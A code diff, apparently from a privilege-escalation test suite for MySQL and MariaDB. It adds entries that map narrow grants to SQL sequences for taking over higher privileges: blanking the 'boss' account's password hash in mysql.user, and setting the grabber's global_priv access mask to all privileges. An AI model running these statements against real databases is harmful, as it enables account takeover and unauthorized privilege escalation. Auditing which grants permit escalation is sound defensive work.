@@ -34,6 +34,11 @@ BOTH = {
 GRABS: dict[Flavour, dict[str, Grab]] = {
     "mysql": BOTH
     | {
+        "UPDATE of verifiers": Grab(
+            ["UPDATE (authentication_string), SELECT (user) ON mysql.user", "RELOAD ON *.*"],
+            ["UPDATE mysql.user SET authentication_string = '' WHERE user = 'boss'", "FLUSH PRIVILEGES"],
+            BOSS,
+        ),
         "ROLE_ADMIN": Grab(["ROLE_ADMIN ON *.*"], ["GRANT boss TO grabber", "SET ROLE boss", PROOF], ME, "DO 0"),
         "SET_ANY_DEFINER": Grab(
             ["SET_ANY_DEFINER ON *.*", "CREATE ROUTINE, EXECUTE ON shop.*"],
@@ -50,6 +55,13 @@ GRABS: dict[Flavour, dict[str, Grab]] = {
     },
     "mariadb": BOTH
     | {
+        "UPDATE of privileges": Grab(
+            ["UPDATE (Priv), SELECT (User) ON mysql.global_priv", "RELOAD ON *.*"],
+            [
+                """UPDATE mysql.global_priv SET Priv = '{"access": 18446744073709551615}' WHERE User = 'grabber'""",
+                "FLUSH PRIVILEGES",
+            ],
+        ),
         "SET USER": Grab(
             ["SET USER ON *.*", "CREATE ROUTINE, EXECUTE ON shop.*"],
             [f"CREATE DEFINER = boss PROCEDURE shop.p() {PROOF}", "CALL shop.p()"],
